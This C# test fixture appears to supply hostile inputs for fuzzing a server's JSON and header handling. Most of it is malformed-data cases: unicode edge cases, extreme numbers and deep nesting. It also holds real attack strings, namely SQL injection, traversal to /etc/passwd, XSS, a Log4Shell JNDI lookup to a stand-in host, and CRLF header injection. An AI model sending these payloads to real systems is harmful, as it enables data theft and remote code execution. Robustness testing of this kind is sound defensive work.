using System.Text;

namespace ConsensusLab.Server.Tests.Hostile;

/// <summary>
/// What an attacker types: SQL, path traversal, unicode edge cases, wrong JSON types, extreme numbers, deep nesting.
/// Values are raw JSON text, so that what a serializer would refuse to write (NaN, lone surrogates) can be sent too.
/// </summary>
internal static class HostileValues
{
    /// <summary>Text that is never a session code, question id, group code, ISO country, age band or enum name of the target.</summary>
    public static readonly string[] Strings =
    [
        "'; DROP TABLE ledger; --",
        "\" OR 1=1 --",
        "1; DELETE FROM participants",
        "' UNION SELECT token_hash FROM participants --",
        "Robert'); DROP TABLE grain_state;--",
        "%' OR '1'='1",
        "../../etc/passwd",
        "..\\..\\windows\\win.ini",
        "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "....//....//",
        "/",
        "..",
        "\u0000",
        "a\u0000b",
        "\u202Eevil\u202C",
        "\u200B",
        "\uFEFF",
        "\uFFFF",
        "\uFFFD",
        "\U0001F44D\U0001F3FD\U0001F468\u200D\U0001F469\u200D\U0001F467",
        "e\u0301\u0301\u0301\u0301\u0301\u0301",
        "Z\u0337\u0322\u0354a\u0338l\u0336g\u0335o\u0334",
        "\U0001D54F",
        "مجتمع مدني",
        "政府",
        "\u0085\u2028\u2029",
        "\r\n\t",
        "<script>alert(1)</script>",
        "{{7*7}}",
        "${jndi:ldap://attacker/x}",
        "%00",
        "%s%s%n",
        "null",
        "true",
        "NaN",
        "Infinity",
        "1e400",
        "",
        "   ",
        new string('A', 5_000),
        string.Concat(Enumerable.Repeat("\U0001F600", 1_000)),
        string.Concat(Enumerable.Repeat("e\u0301", 1_000)),
    ];

    /// <summary>Strings as JSON literals, plus escapes no .NET string can carry: lone surrogates, and escaped NUL.</summary>
    public static readonly string[] StringLiterals =
    [
        .. Strings.Select(Quote),
        "\"\\ud800\"",
        "\"\\udc00x\"",
        "\"\\ud800\\ud800\"",
        "\"x\\udfff\"",
        "\"\\u0000\"",
        "\"\\u202e\\u0000\\ud83d\"",
    ];

    /// <summary>Numbers at and past every limit, and what only looks like one.</summary>
    public static readonly string[] Numbers =
    [
        "-1", "2147483648", "-2147483649", "9223372036854775808", "123456789012345678901234567890",
        "1e308", "-1e308", "1e400", "-1e400", "4.9e-324", "1e-400", "-0.0", "0.5", "2.5",
    ];

    /// <summary>What is not JSON at all, or not a number JSON allows.</summary>
    public static readonly string[] NotJson =
    [
        "NaN", "Infinity", "-Infinity", "+1", "01", ".5", "1.", "0x1F", "--1", "'single'", "undefined", "\"unterminated", "{", "]", "True", "nul",
    ];

    public static readonly string[] NumbersAsStrings = ["\"1\"", "\"0\"", "\"NaN\"", "\"Infinity\"", "\"-Infinity\"", "\"1e3\"", "\"0x10\"", "\"2\""];

    public static readonly string[] OtherTypes = ["true", "false", "[]", "{}", "[1,2,3]", "{\"a\":1}", "[[[[]]]]", "[\"a\"]", "[null]"];

    public static readonly string DeepArray = new string('[', 1_000) + new string(']', 1_000);

    public static readonly string DeepObject = string.Concat(Enumerable.Repeat("{\"a\":", 1_000)) + "1" + new string('}', 1_000);

    /// <summary>Header values (printable ASCII only: the client refuses the rest) that are never a key or token of the target.</summary>
    public static readonly string[] HeaderValues =
    [
        "'; DROP TABLE ledger; --", "' OR '1'='1", "../../etc/passwd", "null", "undefined", "0", "-1", "%00", "%0d%0aX-Injected: 1",
        "${jndi:ldap://attacker/x}", "<script>", new string('k', 199), new string('k', 201), new string('k', 8_000), "Bearer", "*",
    ];

    public static string Pick(this Random random, IReadOnlyList<string> values) => values[random.Next(values.Count)];

    public static T Pick<T>(this Random random, IReadOnlyList<T> values) => values[random.Next(values.Count)];

    /// <summary>Any JSON value of a wrong or extreme kind; about one in eight is not JSON at all.</summary>
    public static string AnyValue(Random random) => random.Next(9) switch
    {
        0 or 1 => random.Pick(StringLiterals),
        2 or 3 => random.Pick(Numbers),
        4 => random.Pick(NumbersAsStrings),
        5 => random.Pick(OtherTypes),
        6 => random.Next(2) == 0 ? DeepArray : DeepObject,
        7 => "null",
        _ => random.Pick(NotJson),
    };

    /// <summary>A wrong value for a field that takes a string: every kind of value but a string.</summary>
    public static string NotAString(Random random) => random.Next(5) switch
    {
        0 => random.Pick(Numbers),
        1 => random.Pick(OtherTypes),
        2 => random.Next(2) == 0 ? DeepArray : DeepObject,
        _ => random.Pick(NotJson),
    };

    /// <summary>A wrong value for a field that takes an integer: fractions, overflows, strings, other types.</summary>
    public static string NotAnInteger(Random random) => random.Next(5) switch
    {
        0 => random.Pick(["2147483648", "-2147483649", "9223372036854775808", "1e308", "1e400", "0.5", "2.5", "4.9e-324", "1.0e1"]),
        1 => random.Pick(NumbersAsStrings),
        2 => random.Pick(OtherTypes),
        3 => random.Pick(StringLiterals),
        _ => random.Pick(NotJson),
    };

    /// <summary>A wrong value for a field that takes a number: strings of numbers, NaN and Infinity, other types.</summary>
    public static string NotANumber(Random random) => random.Next(4) switch
    {
        0 => random.Pick(NumbersAsStrings),
        1 => random.Pick(OtherTypes),
        2 => random.Pick(StringLiterals),
        _ => random.Pick(NotJson),
    };

    /// <summary>A JSON object of the given fields in order (duplicates allowed), each value raw JSON text.</summary>
    public static string Object(IEnumerable<(string Name, string Value)> fields)
    {
        var json = new StringBuilder("{");
        foreach (var (name, value) in fields)
            json.Append(json.Length > 1 ? "," : "").Append(Quote(name)).Append(':').Append(value);
        return json.Append('}').ToString();
    }

    /// <summary>A JSON string literal that keeps the text's characters as UTF-8 (a serializer would escape them), escaping only what JSON requires.</summary>
    public static string Quote(string text)
    {
        var json = new StringBuilder(text.Length + 2).Append('"');
        foreach (var c in text)
        {
            if (c is '"' or '\\')
                json.Append('\\').Append(c);
            else if (c < ' ')
                json.Append("\\u").Append(((int)c).ToString("x4", System.Globalization.CultureInfo.InvariantCulture));
            else
                json.Append(c);
        }
        return json.Append('"').ToString();
    }
}
